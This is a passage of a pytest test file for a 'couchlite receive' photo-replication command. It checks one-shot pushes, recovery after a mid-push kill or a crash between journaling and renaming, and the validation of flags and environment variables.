    shots = {f"shot{i}.jpg": photo("jpg", 20_000 + i, rng) for i in range(3)}
    docs = [inline_doc(f"doc{i}", {name: ("image/jpeg", data)}) for i, (name, data) in enumerate(shots.items())]
    assert src.post(f"http://127.0.0.1:{source.port}/photos/_bulk_docs",
                    json={"docs": docs, "new_edits": False}).status_code == 201
    receiver = receivers("--once")
    started = time.time()
    receiver.start()
    assert Replicator(Endpoint(source.url, "photos"), Endpoint(receiver.server_url, receiver.db)).run().completed
    receiver.wait_for_log("session ended (the push is complete)", timeout=30)
    assert receiver.session().get(f"{receiver.base}/{receiver.db}").status_code == 401
    receiver.proc.wait(timeout=30)
    assert receiver.proc.returncode == 0
    check_folder(receiver.out, {n: (d, None) for n, d in shots.items()}, started, time.time())


# --- crashes ---------------------------------------------------------------------------------

def test_kill_during_push_exports_every_photo_exactly_once(servers, receivers):
    rng = random.Random(7)
    source = servers("source")
    src = requests.Session()
    src.auth = ("admin", "pass")
    assert src.put(f"http://127.0.0.1:{source.port}/photos").status_code == 201
    shots = {f"IMG_{i:04d}.jpg": photo("jpg", 150_000 + i, rng) for i in range(40)}
    for i, (name, data) in enumerate(shots.items()):
        r = src.post(f"http://127.0.0.1:{source.port}/photos/_bulk_docs",
                     json={"docs": [inline_doc(f"p{i:03d}", {name: ("image/jpeg", data)})], "new_edits": False})
        assert r.status_code == 201
    receiver = receivers()
    started = time.time()
    receiver.start()
    failure: list[BaseException] = []

    def push():
        try:
            Replicator(Endpoint(source.url, "photos"), Endpoint(receiver.server_url, receiver.db),
                       replication_id="receive-kill-test", batch_size=4).run()
        except BaseException as e:  # the receiver dies under it
            failure.append(e)
    thread = threading.Thread(target=push)
    thread.start()
    deadline = time.monotonic() + 60
    while len([n for n in os.listdir(receiver.out) if not n.startswith(".")]) < 8:
        assert time.monotonic() < deadline and thread.is_alive(), "the push did not get going"
        time.sleep(0.01)
    receiver.kill()
    thread.join(timeout=60)
    assert failure, "the push should have been cut by the kill"
    receiver.start()   # new port, new credentials, same data and folder
    stats = Replicator(Endpoint(source.url, "photos"), Endpoint(receiver.server_url, receiver.db),
                       replication_id="receive-kill-test", batch_size=4).run()
    assert stats.completed
    check_folder(receiver.out, {n: (d, None) for n, d in shots.items()}, started, time.time())


def test_crash_between_journal_and_rename_is_finished_on_restart(receivers):
    """The journal: a temporary file whose name was recorded is published on the next start; a temporary file
    without a record, and one cut while being written, are removed (their documents are exported again)."""
    import hashlib
    receiver = receivers()
    receiver.start()
    data = photo("jpg", 5_000, random.Random(11))
    md5 = hashlib.md5(data).hexdigest()
    r = receiver.admin().put(f"{receiver.base}/{receiver.db}/_local/couchlite-receive-md5-{md5}",
                             json={"name": "recovered.jpg"})
    assert r.status_code == 201, r.text
    receiver.stop()
    for name, body in ((f".couchlite-{md5}.part", data), (".couchlite-" + "0" * 32 + ".part", b"orphan"),
                       (".couchlite-writing-" + "1" * 32, b"half")):
        with open(os.path.join(receiver.out, name), "wb") as f:
            f.write(body)
    receiver.start()
    assert sorted(os.listdir(receiver.out)) == ["recovered.jpg"]
    with open(os.path.join(receiver.out, "recovered.jpg"), "rb") as f:
        assert f.read() == data
    # And the recorded bytes are never written again.
    assert bulk(receiver, [inline_doc("late", {"late.jpg": ("image/jpeg", data)})]) == []
    time.sleep(1.0)
    assert sorted(os.listdir(receiver.out)) == ["recovered.jpg"]


# --- the command line ------------------------------------------------------------------------

@pytest.mark.parametrize("args", [["--bogus"], ["--ttl", "0"], ["--ttl", "soon"], ["--db", "_users"],
                                  ["--db", "Bad Name"], ["--port", "70000"], ["--out"]])
def test_bad_flags_exit_64(args):
    out = subprocess.run([os.environ["COUCHLITE_BIN"], "receive", *args], capture_output=True, timeout=30)
    assert out.returncode == 64, out
    assert b"usage: couchlite receive" in out.stderr


@pytest.mark.parametrize("variable,value", [("COUCHLITE_RECEIVE_TTL", "later"), ("COUCHLITE_PORT", "x"),
                                            ("COUCHLITE_RECEIVE_DB", "_replicator")])
def test_bad_environment_values_exit_64(variable, value):
    env = dict(os.environ, **{variable: value})
    out = subprocess.run([os.environ["COUCHLITE_BIN"], "receive"], capture_output=True, timeout=30, env=env)
    assert out.returncode == 64, out


def test_environment_variables_configure_receive(tmp_path):
    env = dict(os.environ, COUCHLITE_RECEIVE_DB="from-env", COUCHLITE_RECEIVE_OUT=str(tmp_path / "env out"),
               COUCHLITE_PORT="0", COUCHLITE_DATA_DIR=str(tmp_path / "data"), COUCHLITE_ADMIN="admin:pass",
               COUCHLITE_RECEIVE_JSON="true")
    proc = subprocess.Popen([os.environ["COUCHLITE_BIN"], "receive"], stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, env=env)
    try:
        info = json.loads(proc.stdout.readline())
    finally:
        proc.send_signal(2)
        proc.wait(timeout=30)
    assert info["db"] == "from-env" and info["out"] == str(tmp_path / "env out")
    assert info["url"].endswith("/from-env") and os.path.isdir(tmp_path / "data")


def test_help_lists_every_flag():
    out = subprocess.run([os.environ["COUCHLITE_BIN"], "receive", "--help"], capture_output=True, timeout=30)
    assert out.returncode == 0
    for flag in ["--out", "--db", "--bind", "--port", "--ttl", "--once", "--qr-png", "--json", "--data-dir",
                 "COUCHLITE_RECEIVE_OUT", "COUCHLITE_PORT"]:
        assert flag.encode() in out.stdout, flag
